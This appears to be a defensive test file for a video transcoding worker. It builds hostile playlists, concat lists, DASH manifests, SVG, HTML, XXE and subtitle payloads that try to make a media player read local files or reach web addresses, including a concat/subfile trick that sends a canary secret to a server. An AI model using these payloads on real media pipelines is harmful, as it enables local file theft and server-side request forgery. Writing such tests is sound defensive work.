"""Text that makes a player open something else: playlists, lists of files, session and scene descriptions."""

from collections.abc import Callable

from tests.hostile.kit import Kit, Sample
from workers.transcode.reasons import NOT_A_VIDEO

HLS = "#EXTM3U\n#EXT-X-TARGETDURATION:5\n{extra}#EXTINF:5.0,\n{target}\n#EXT-X-ENDLIST\n"
DASH = """<?xml version="1.0"?>
<MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT2S"
 minBufferTime="PT1S"
 profiles="urn:mpeg:dash:profile:isoff-on-demand:2011"><Period><AdaptationSet contentType="video">
<Representation id="1" mimeType="video/mp4" codecs="avc1.42c00a" bandwidth="9000" width="96" height="54">
<BaseURL>{target}</BaseURL></Representation></AdaptationSet></Period></MPD>"""
IMF = """<?xml version="1.0"?>
<CompositionPlaylist xmlns="http://www.smpte-ra.org/schemas/2067-3/2016"><Id>urn:uuid:1</Id>
<EditRate>10 1</EditRate><SegmentList><Segment><SequenceList/></Segment></SegmentList>
</CompositionPlaylist>"""
SDP = "v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video {port} RTP/AVP 96\n"
SVG = """<svg xmlns="http://www.w3.org/2000/svg"
 xmlns:xlink="http://www.w3.org/1999/xlink">
<image xlink:href="{target}" width="96" height="54"/></svg>"""
HTML = '<!doctype html><html><body><video src="{target}" autoplay></video></body></html>'
XXE = '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY c SYSTEM "{target}">]><r>&c;</r>'
VOBSUB = "# VobSub index file, v7 (do not modify this line!)\nsize: 96x54\nid: en, index: 0\n" + (
    "timestamp: 00:00:00:000, filepos: 000000000\n" * 3
)
SMIL = '<smil><body><video src="{target}"/></body></smil>'

Target = Callable[[Kit], str]


def beside(_: Kit) -> str:
    return "canary.mp4"


def absolute(kit: Kit) -> str:
    return str(kit.canary.film)


def as_url(kit: Kit) -> str:
    return f"file://{kit.canary.film}"


def as_file(kit: Kit) -> str:
    return f"file:{kit.canary.film}"


def calling(kit: Kit) -> str:
    return f"http://127.0.0.1:{kit.canary.port}/canary.mp4"


def telling(kit: Kit) -> str:
    """A secret text sent along to a stranger's server: the famous way to steal /etc/passwd."""
    return f"concat:http://127.0.0.1:{kit.canary.port}/?|subfile,,start,0,end,64,,:{kit.canary.text}"


def a_list(what: str, text: str, target: Target, name: str = "clip.mp4") -> Sample:
    def make(kit: Kit) -> bytes:
        return text.replace("{target}", target(kit)).replace("{port}", str(kit.canary.port)).encode()

    return Sample(what, make, NOT_A_VIDEO, name)


def hls(extra: str = "") -> str:
    return HLS.replace("{extra}", extra)


SAMPLES = [
    a_list("HLS naming its neighbour", hls(), beside),
    a_list("HLS naming its neighbour, without an extension", hls(), beside, "source"),
    a_list("HLS naming its neighbour, as m3u8", hls(), beside, "clip.m3u8"),
    a_list("HLS naming a file by its path", hls(), absolute),
    a_list("HLS naming a file URL", hls(), as_url),
    a_list("HLS naming a web address", hls(), calling),
    a_list("HLS sending a text to a web address", hls(), telling),
    a_list("HLS with a key in a file", hls('#EXT-X-KEY:METHOD=AES-128,URI="canary.txt"\n'), beside),
    a_list("HLS with its start in a file", hls('#EXT-X-MAP:URI="canary.mp4"\n'), calling),
    a_list("HLS master naming a web address", "#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=9\n{target}\n", calling),
    a_list("HLS behind a byte order mark", "\ufeff" + hls(), absolute),
    a_list("a concat list naming its neighbour", "ffconcat version 1.0\nfile {target}\n", beside),
    a_list("a concat list, without an extension", "ffconcat version 1.0\nfile {target}\n", beside, "source"),
    a_list("a concat list naming a file by its path", "ffconcat version 1.0\nfile '{target}'\n", absolute),
    a_list(
        "a concat list that asks for more protocols",
        "ffconcat version 1.0\nfile '{target}'\noption protocol_whitelist file,http,tcp\noption safe 0\n",
        as_file,
    ),
    a_list("a concat list naming a web address", "ffconcat version 1.0\nfile '{target}'\n", calling),
    a_list("a concat list without its first line", "file '{target}'\n", beside),
    a_list("DASH naming its neighbour", DASH, beside),
    a_list("DASH naming a file by its path", DASH, absolute, "clip.mpd"),
    a_list("DASH naming a web address", DASH, calling),
    a_list("an IMF composition", IMF, beside),
    a_list("SDP waiting on a port", SDP, beside),
    a_list("an SVG showing a file", SVG, as_url),
    a_list("an SVG showing a web address", SVG, calling),
    a_list("a web page", HTML, calling),
    a_list("XML with an entity in a file", XXE, as_url),
    a_list("SMIL naming a web address", SMIL, calling),
    a_list("a VobSub index, whose pictures stand beside it", VOBSUB, beside, "canary.idx"),
    a_list("an AviSynth script", 'FFVideoSource("{target}")\n', absolute, "clip.avs"),
    a_list("an ASF redirector", "[Reference]\nRef1={target}\n", calling),
    a_list("a plain list of addresses", "#EXTM3U\n{target}\n", calling),
    a_list("ffmpeg's own metadata", ";FFMETADATA1\ntitle={target}\n", beside),
    a_list("subtitles", "1\n00:00:00,000 --> 00:00:01,000\n<img src='{target}'>\n\n", calling),
    a_list("a filter graph", "movie={target}[out0]", absolute),
]
